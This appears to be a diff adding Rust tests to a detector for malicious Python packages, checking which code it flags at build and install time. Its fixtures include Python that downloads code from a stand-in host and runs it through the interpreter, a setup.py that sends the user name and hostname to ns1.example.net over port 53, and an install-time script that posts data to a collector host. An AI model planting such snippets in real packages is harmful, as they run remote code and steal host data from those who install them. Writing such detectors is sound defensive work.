@@ -259,3 +259,85 @@ fn a_flagged_release_says_why_in_its_top_behaviours() {
     let quiet = module("VALUE = 1\n");
     assert!(quiet.why.is_empty(), "{:?}", quiet.why);
 }
+
+// ---------------------------------------------------------------- code fed to an interpreter on stdin
+
+#[test]
+fn downloaded_code_fed_to_python_on_stdin_is_download_exec() {
+    let r = module(
+        r#"import subprocess, sys, requests
+def update():
+    code = requests.get("https://cdn.example.net/u.py", timeout=3).content
+    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
+    p.stdin.write(code)
+"#,
+    );
+    assert_eq!(hits(&r, "payload/download-exec", MOD), [(5, Critical)]);
+}
+
+#[test]
+fn a_local_file_fed_to_python_on_stdin_is_not_download_exec() {
+    let r = module(
+        r#"import subprocess, sys
+def run_script(path):
+    p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
+    p.stdin.write(open(path, "rb").read())
+"#,
+    );
+    none(&r, "payload/download-exec");
+    none(&r, "payload/exec-decoded");
+}
+
+// ---------------------------------------------------------------- host facts sent at build time
+
+#[test]
+fn host_facts_collected_and_sent_by_setup_py_are_an_exfil_flow() {
+    let r = setup_py(
+        r#"import getpass, socket
+from setuptools import setup
+def probe():
+    data = getpass.getuser() + "." + socket.gethostname()
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(data.encode(), ("ns1.example.net", 53))
+setup()
+"#,
+    );
+    assert_eq!(hits(&r, "access/exfil-flow", SETUP), [(6, High)]);
+}
+
+#[test]
+fn setup_py_reading_the_user_name_without_sending_anything_is_no_flow() {
+    let r = setup_py("import getpass\nfrom setuptools import setup\nsetup(author=getpass.getuser())\n");
+    none(&r, "access/exfil-flow");
+}
+
+// ---------------------------------------------------------------- scripts setup.py starts, unimportable folders
+
+#[test]
+fn a_python_script_that_setup_py_starts_runs_at_build_time() {
+    let r = sdist(&[
+        ("setup.py", "import os, sys\nfrom setuptools import setup\nos.system(f'{sys.executable} tools/post.py')\nsetup()\n"),
+        ("tools/post.py", "import requests\nrequests.post('https://collector.example.net/x', data={'a': 1})\n"),
+        ("acme/__init__.py", ""),
+    ]);
+    assert_eq!(hits(&r, "access/network-on-install", "acme-1.0/tools/post.py"), [(2, High)]);
+}
+
+#[test]
+fn a_tool_script_nobody_starts_stays_unshipped() {
+    let r = sdist(&[
+        ("setup.py", "from setuptools import setup\nsetup()\n"),
+        ("tools/post.py", "import requests\nrequests.post('https://collector.example.net/x', data={'a': 1})\n"),
+        ("acme/__init__.py", ""),
+    ]);
+    none(&r, "access/network-on-install");
+}
+
+#[test]
+fn a_top_folder_named_as_the_project_ships_even_with_a_hyphen() {
+    let metadata = "Metadata-Version: 2.1\nName: acme-tools\nVersion: 1.0\nSummary: x\nAuthor: Ann\n";
+    let r = sdist_named("acme-tools-1.0", metadata, &[("acme-tools/core.py", "import os\nos.system('acme-register')\n")]);
+    assert_eq!(hits(&r, "access/process-on-install", "acme-tools-1.0/acme-tools/core.py"), [(2, Medium)]);
+    let other = sdist_named("acme-tools-1.0", metadata, &[("helper-scripts/core.py", "import os\nos.system('acme-register')\n")]);
+    none(&other, "access/process-on-install");
+}
